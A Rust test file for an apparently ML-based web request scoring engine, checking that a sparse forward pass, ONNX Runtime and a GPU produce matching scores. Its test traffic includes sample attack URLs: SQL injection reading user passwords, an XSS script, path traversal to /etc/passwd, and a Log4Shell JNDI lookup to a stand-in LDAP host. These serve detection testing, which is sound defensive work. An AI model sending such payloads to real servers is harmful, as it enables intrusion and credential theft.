//! The sparse pass against ONNX Runtime, request by request, with the bundle that ships; and on a GPU where there is one.

use std::path::Path;
use std::sync::LazyLock;

use weir_scoring::bundle::Bundle;
use weir_scoring::engine::{
    Assessment, Engine, EngineOptions, EngineScratch, ForwardPass, NoExceptions, Subject,
};
use weir_scoring::ort::ExecutionProvider;
use weir_scoring::record::OwnedRequest;

use crate::traffic::{ENGINE, OPTIONS, ordinary, request, runtime};

/// Of a score: sums of the same numbers in another order.
const TOLERANCE: f32 = 1e-5;
/// A GPU's sums differ more.
const TOLERANCE_CUDA: f32 = 1e-3;
/// The variable that says that there is a GPU, and an ONNX Runtime that can use it.
const CUDA: &str = "WEIR_TEST_CUDA";

pub(crate) fn base(options: &EngineOptions) -> Engine {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../models/base");
    Engine::load(runtime(), &Bundle::open(&path).unwrap(), options).unwrap()
}

/// The shipped bundle through ONNX Runtime alone.
pub(crate) static PLAIN: LazyLock<Engine> = LazyLock::new(|| base(&OPTIONS).through_onnxruntime());

/// Ordinary requests and others.
pub(crate) fn traffic() -> Vec<OwnedRequest> {
    let attacks = [
        "/search?q=%27%20UNION%20SELECT%20name,%20password%20FROM%20users--%20&page=1",
        "/x?a=1&b=%3Cscript%3Ealert(1)%3C/script%3E",
        "/../../../../etc/passwd?file=....//....//boot.ini",
        "/?x=${jndi:ldap://203.0.113.7/a}&y={{7*7}}&z=%00%ff%fe",
    ];
    let long = format!("/long?v={}", "a%20b'--".repeat(900));
    let many: String = (0..300).map(|n| format!("k{n}=v{}&", n * n)).collect();
    (0..60)
        .map(ordinary)
        .chain(attacks.iter().map(|target| request(target)))
        .chain([request(&long), request(&format!("/many?{many}"))])
        .collect()
}

pub(crate) fn score(engine: &Engine, request: &OwnedRequest) -> Assessment {
    let mut scratch = EngineScratch::default();
    request
        .with_view(|view| engine.score(0, &Subject::of(view), &NoExceptions, &mut scratch))
        .unwrap()
}

pub(crate) fn assert_same(found: &Assessment, expected: &Assessment, tolerance: f32) {
    let (a, b) = (found.scores.field.value(), expected.scores.field.value());
    assert!((a - b).abs() <= tolerance * (1.0 + b.abs()), "{a} {b}");
    assert_eq!(found.rows, expected.rows);
    let top = |assessment: &Assessment| {
        let top = assessment.top.as_ref();
        top.map(|top| (top.location, top.key))
    };
    assert_eq!(top(found), top(expected));
}

#[test]
fn requests_score_by_the_sparse_pass_as_by_onnx_runtime() {
    let sparse = base(&OPTIONS);
    assert_eq!(sparse.forward_pass(), ForwardPass::Sparse);
    assert_eq!(PLAIN.forward_pass(), ForwardPass::OnnxRuntime);
    for request in traffic() {
        assert_same(
            &score(&sparse, &request),
            &score(&PLAIN, &request),
            TOLERANCE,
        );
    }
}

#[test]
fn a_graph_of_another_trainer_is_run_by_onnx_runtime() {
    assert_eq!(ENGINE.forward_pass(), ForwardPass::OnnxRuntime);
}

#[test]
fn a_gpu_computes_what_the_processor_does() {
    if std::env::var_os(CUDA).is_none() {
        println!("skipped: no GPU; set {CUDA}=1 where one is at hand");
        return;
    }
    let options = EngineOptions {
        workers: 1,
        provider: ExecutionProvider::Cuda,
    };
    let engine = base(&options);
    let status = engine.provider();
    assert_eq!(
        (status.actual, &status.why),
        (ExecutionProvider::Cuda, &None)
    );
    assert_eq!(engine.forward_pass(), ForwardPass::OnnxRuntime);
    for request in traffic() {
        assert_same(
            &score(&engine, &request),
            &score(&PLAIN, &request),
            TOLERANCE_CUDA,
        );
    }
}
